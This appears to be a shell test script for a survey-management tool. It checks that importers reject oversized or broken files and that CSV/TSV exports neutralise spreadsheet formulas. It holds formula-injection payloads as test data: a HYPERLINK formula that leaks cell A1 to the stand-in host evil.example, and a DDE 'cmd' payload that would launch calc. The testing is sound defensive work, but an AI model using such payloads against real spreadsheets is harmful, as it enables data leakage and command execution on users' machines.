#!/bin/sh
# Hostile and broken input files: every importer refuses each file
# of tests/data/bad/ with the exit code and the "FILE:LINE: field: what"
# message of tests/data/bad/expected.tsv, and the database dump is byte for
# byte the same afterwards. Files named "@..." in the table are made here
# (a 1 MB field, 100,000 columns: too big to commit). Then the formula
# injection files, which are accepted: every CSV/TSV output must show their
# values neutralised (a leading ').
. tests/lib.sh

NOW=2019-06-03T10:00:00
db=$(fresh_db bad)
cn() { run "$CN" --db "$db" --now "$NOW" "$@"; }
cn campaign add bad --name "Bad files" --opens 2019-06-01 --deadline 2019-07-31 --respondents comune,ambito
check "setup: campaign" 0 "$RC"
cn code generate --campaign bad --all
check "setup: codes" 0 "$RC"

# ---- the generated files ----
G="$T/gen"
mkdir -p "$G"
ISTAT=db/comuni-2019-05-15.csv
mb() { head -c 1048576 /dev/zero | tr '\0' A; }
cols() { seq 1 100000 | sed "s/^/$1/" | paste -sd "$2" -; }
LSHEAD='tid,firstname,lastname,email,emailstatus,token,language,validfrom,validuntil,invited,reminded,remindercount,completed,usesleft'
{ head -n 5 $ISTAT; printf '01;201;001; 003 ;001003;%s;Ala di Stura;;1;Nord-ovest;Piemonte;Torino;0;TO;1003;1003;1003;1003;A117;462;ITC;ITC1;ITC11\r\n' "$(mb)"; } >"$G/istat_1mb_field.csv"
{ head -n 5 $ISTAT; printf '01;201;001; 003 ;001003;"%s";Ala di Stura;;1;Nord-ovest;Piemonte;Torino;0;TO;1003;1003;1003;1003;A117;462;ITC;ITC1;ITC11\r\n' "$(mb)"; } >"$G/istat_1mb_quoted.csv"
{ cols col ';'; sed -n 4p $ISTAT; } >"$G/istat_100k_columns.csv"
{ printf 'codice_ambito;denominazione;codice_istat;capofila\n'; printf 'TO1;X;001272;1%s\n' "$(cols '' ';' | tr -d '0-9')"; } >"$G/ambiti_100k_columns.csv"
printf 'respondent,kind,value,name\n001272,referente,%s,x\n' "$(mb)" >"$G/contacts_1mb_field.csv"
printf '\357\273\277%s\n"1","a","%s","","OK","TOK","it","","","N","N","0","N","1"\n' "$LSHEAD" "$(mb)" >"$G/ls_1mb_field.csv"
printf '\357\273\277%s,%s\n' "$LSHEAD" "$(cols ' attribute_' ',')" >"$G/ls_100k_columns.csv"
printf 'informazioni_cronologiche,codice_istat\n2019-06-02 10:00,%s\n' "$(mb)" >"$G/gen_1mb_field.csv"
# the whole May list with Airasca renamed to a spreadsheet formula (Italian
# Excel separates arguments with ';', so the value is quoted)
sed 's/;001002;Airasca;Airasca;/;001002;"=HYPERLINK(""http:\/\/evil.example\/?q=""\&A1;""Airasca"")";"=HYPERLINK(""http:\/\/evil.example\/?q=""\&A1;""Airasca"")";/' \
	$ISTAT >"$G/istat_formula.csv"

# ---- the table ----
tab=$(printf '\t')
n=0
before=$(db_dump "$db" | cksum)
while IFS="$tab" read -r file cmd code dbstate msg; do
	case "$file" in '#'*|'') continue ;; esac
	case "$file" in
	@*) path="$G/${file#@}" ;;
	*) path="tests/data/bad/$file" ;;
	esac
	n=$((n + 1))
	if [ ! -f "$path" ]; then
		not_ok "$file: the file exists" "$path"
		continue
	fi
	# shellcheck disable=SC2086
	cn $cmd "$path"
	after=$(db_dump "$db" | cksum)
	check "$file ($cmd): exit $code" "$code" "$RC"
	want=$(printf '%s' "$msg" | sed "s|{FILE}|$path|g")
	check_contains "$file: message" "$want" "$ERR$OUT"
	if [ "$code" -ne 0 ]; then
		check "$file: one line on stderr, starting centralino:" "1|centralino: $path:" \
			"$(printf '%s\n' "$ERR" | wc -l | tr -d ' ')|$(printf '%s' "$ERR" | cut -c1-$((${#path} + 13)))"
	fi
	if [ "$dbstate" = same ]; then
		check "$file: database unchanged" "$before" "$after"
	else
		check_not_contains "$file: database changed" "$before" "$after"
	fi
	before=$after
done <tests/data/bad/expected.tsv
check "the corpus: at least 30 broken files, all in the table" "ok|0" \
	"$([ "$n" -ge 30 ] && echo ok)|$(ls tests/data/bad | grep -v expected.tsv | while read -r f; do grep -q "^$f$tab" tests/data/bad/expected.tsv || echo "$f"; done | wc -l)"
check "integrity after all of them" ok "$(sqlite3 "$db" 'PRAGMA integrity_check')"

# ---- formula injection: accepted, neutralised in every CSV/TSV output ----
check "formula: Airasca's name stored as given" '=HYPERLINK("http://evil.example/?q="&A1;"Airasca")' \
	"$(sqlite3 "$db" "SELECT name FROM comune WHERE istat = '001002'")"
cn call add --respondent 001002 --campaign bad --caller "=cmd|' /C calc'!A0" --office "@SUM(A1:A9)" \
	--phone "+39 011 1234567" --notes "-2+3 bad" --category altro
check "formula: a call with formula-like fields" 0 "$RC"
cn extension grant --campaign bad 001002 --until 2019-08-31 --reason "-5 giorni =SUM(1)"
check "formula: an extension with such a reason" 0 "$RC"

# Cells that a spreadsheet would run: TSV split on tabs; CSV parsed by
# sqlite3 (a real CSV reader); '# name=value' preamble lines dropped.
tsv_bad() { printf '%s\n' "$1" | awk -F '\t' '{for (i = 1; i <= NF; i++) if ($i ~ /^[=+@-]/) n++} END {print n + 0}'; }
csv_bad() {
	rm -f "$T/p.db"
	printf '%s\n' "$1" | grep -v '^# ' >"$T/p.csv"
	sqlite3 "$T/p.db" ".import --csv $T/p.csv t" 2>/dev/null
	q=$(sqlite3 "$T/p.db" "SELECT group_concat('(substr(\"' || name || '\", 1, 1) IN (''='', ''+'', ''-'', ''@''))', ' + ') FROM pragma_table_info('t')")
	sqlite3 "$T/p.db" "SELECT coalesce(sum($q), 0) FROM t"
}
# output NAME FORMAT NEEDLE CMD...: NEEDLE (the neutralised value) shows
# and no cell starts with = + - @
output() {
	name=$1 fmt=$2 needle=$3
	shift 3
	cn "$@"
	check "formula: $name: exit 0" 0 "$RC"
	check_contains "formula: $name: shows the value with a leading '" "$needle" "$OUT"
	if [ "$fmt" = tsv ]; then
		check "formula: $name: no cell a spreadsheet would run" 0 "$(tsv_bad "$OUT")"
	else
		check "formula: $name: no cell a spreadsheet would run" 0 "$(csv_bad "$OUT")"
	fi
}
H="'=HYPERLINK("
output "search tsv" tsv "$H" search airasca --format tsv
output "show tsv" tsv "$H" show 001002 --format tsv
output "contact list tsv" tsv "$H" contact list 001272 --format tsv
output "contact list csv" csv "$H" contact list 001272 --format csv
output "call list tsv" tsv "'=cmd|" call list --format tsv
output "call list csv" csv "'=cmd|" call list --format csv
output "code list csv" csv "$H" code list --campaign bad --format csv
output "code list tsv" tsv "$H" code list --campaign bad --format tsv
output "LimeSurvey export" csv "$H" code export --campaign bad --format limesurvey
output "export map csv" csv "$H" export map --campaign bad --format csv
output "export map tsv" tsv "$H" export map --campaign bad --format tsv
output "report progress by ambito csv" csv "$H" report progress --campaign bad --by ambito --format csv
output "report progress by comune tsv" tsv "$H" report progress --campaign bad --by comune --format tsv
output "report reminders csv" csv "$H" report reminders --campaign bad --limit 10000 --format csv
output "extension list csv" csv "'-5 giorni" extension list --campaign bad --format csv
output "call show tsv" tsv "'@SUM(A1:A9)" call show "$(sqlite3 "$db" "SELECT id FROM call ORDER BY rowid DESC LIMIT 1")" --format tsv
